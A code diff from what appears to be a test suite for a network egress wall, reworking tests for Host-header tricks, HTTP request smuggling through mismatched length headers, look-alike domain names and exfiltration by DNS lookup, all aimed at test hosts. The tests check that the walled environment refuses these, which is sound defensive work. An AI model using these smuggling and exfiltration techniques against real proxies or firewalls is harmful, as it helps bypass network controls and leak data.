@@ -1,9 +1,13 @@
 //! Attacks 19, 20, 25, 31: another name inside an allowed connection, and names that look allowed.
 
+use std::time::{Duration, Instant};
+
 use cofferdam_lab::probe::hello::client_hello;
 use cofferdam_lab::probe::{Outcome, Step, Task};
 
 use crate::bench::ALLOWED;
+use crate::house::CARELESS;
+use crate::lookups;
 use crate::place::{PROXY, Place};
 use crate::trial::{Trial, http, request, tcp, word};
 
@@ -72,21 +76,15 @@ pub(crate) fn host_header(trial: &mut Trial<'_>) {
         place.ask(&http("allowed.test:80", &format!("{nonce}.test"), "/"))
     });
     trial.exfil("allowed in the line, another in Host", |place, nonce| {
-        let to = if place.name == "open" {
-            "allowed.test:80"
-        } else {
-            PROXY
-        };
-        place.ask(&http(to, &format!("{nonce}.test"), "http://allowed.test/"))
+        place.ask(&http(
+            PROXY,
+            &format!("{nonce}.test"),
+            "http://allowed.test/",
+        ))
     });
     trial.exfil("another in the line, allowed in Host", |place, nonce| {
-        let to = if place.name == "open" {
-            "allowed.test:80"
-        } else {
-            PROXY
-        };
         let line = format!("http://denied.test/{nonce}");
-        place.ask(&http(to, "allowed.test", &line))
+        place.ask(&http(PROXY, "allowed.test", &line))
     });
     trial.exfil("another line inside the connection", |place, nonce| {
         let line = format!("http://denied.test/{nonce}");
@@ -142,8 +140,14 @@ fn meets(trial: &mut Trial<'_>, what: &str, deed: impl Fn(&Place, &str) -> Outco
     trial.refuses(what, found.is_empty(), &(&found, &outcome));
 }
 
-/// A request hidden in the body of another, for whoever counts its length in another way.
+/// A request hidden in the body of another, for whoever counts its length in another way: here a server that does
+/// not count at all, on the house, which a rule opens for http.
 fn smuggled(trial: &mut Trial<'_>) {
+    let to = format!("host.cofferdam.internal:{CARELESS}");
+    let met = |trial: &Trial<'_>, nonce: &str| {
+        let heard = trial.bench.house_services.heard(nonce);
+        heard.iter().any(|text| text.starts_with("careless met"))
+    };
     for (what, length, body) in [
         (
             "length and chunks",
@@ -157,17 +161,46 @@ fn smuggled(trial: &mut Trial<'_>) {
             "",
         ),
     ] {
+        let deed = |place: &Place, nonce: &str| {
+            let hidden = request(&format!("{nonce}.test"), "/");
+            let text = format!("POST / HTTP/1.1\r\nHost: {to}\r\n{length}\r\n\r\n{body}{hidden}");
+            place.ask(&tcp(&to, text))
+        };
         let nonce = trial.nonce();
-        let hidden = request(&format!("{nonce}.test"), "/");
-        let text =
-            format!("POST / HTTP/1.1\r\nHost: allowed.test\r\n{length}\r\n\r\n{body}{hidden}");
-        let outcome = trial.bench.wall.ask(&tcp("allowed.test:80", text));
-        let visits = trial.visits(&nonce);
-        let met = visits
-            .iter()
-            .any(|visit| visit.what.contains(&format!("host={nonce}")));
-        trial.refuses(what, !met, &(visits, outcome));
+        let outcome = deed(&trial.bench.open, &nonce);
+        trial.fires(what, heard_soon(|| met(trial, &nonce)), &outcome);
+        let nonce = trial.nonce();
+        let outcome = deed(&trial.bench.wall, &nonce);
+        trial.refuses(what, !met(trial, &nonce), &outcome);
+        // What the server met of it, it wrote down when the connection was over.
+        let end = trial.nonce();
+        let path = format!("/\r\nHost: {end}");
+        trial.bench.open.ask(&tcp(&to, request("x", &path)));
+        assert!(
+            heard_soon(|| met(trial, &end)),
+            "the careless server is gone"
+        );
+        trial.refuses(what, !met(trial, &nonce), &outcome);
     }
+    let nonce = trial.nonce();
+    let text = format!(
+        "POST / HTTP/1.1\r\nHost: {to}\r\nContent-Length: 4\r\nX: \r\nConnection: close\r\n\r\n{}",
+        &nonce[..4]
+    );
+    let outcome = trial.bench.wall.ask(&tcp(&to, text));
+    trial.works("a body", outcome.heard.contains("met"), &outcome);
+}
+
+/// The house writes things down in its own time.
+fn heard_soon(heard: impl Fn() -> bool) -> bool {
+    let start = Instant::now();
+    while !heard() {
+        if start.elapsed() > Duration::from_secs(5) {
+            return false;
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    true
 }
 
 /// A connection of HTTP/2 with prior knowledge, one GET for each authority.
@@ -258,13 +291,14 @@ pub(crate) fn look_alikes(trial: &mut Trial<'_>) {
                     .any(|visit| visit.at.ip().to_string() != "203.0.113.66");
                 trial.refuses(&what, !strange, &outcome);
             } else {
-                trial.stays_in(&what, &trial.bench.wall, deed);
+                trial.exfil(&what, deed);
             }
         }
-        if !is_allowed {
-            trial.stays_in(pattern, &trial.bench.wall, |place, nonce| {
-                let name = pattern.replace(['\0', '%'], "x").replace("NONCE", nonce);
-                place.ask(&Task::Lookup { name })
+        // Labels that are empty or too long are no message.
+        let askable = !pattern.contains("..") && !pattern.starts_with('.') && pattern.len() < 63;
+        if !is_allowed && askable {
+            trial.exfil(&format!("{pattern:?} by a lookup"), |place, nonce| {
+                lookups::address(place, &pattern.replace("NONCE", nonce))
             });
         }
     }
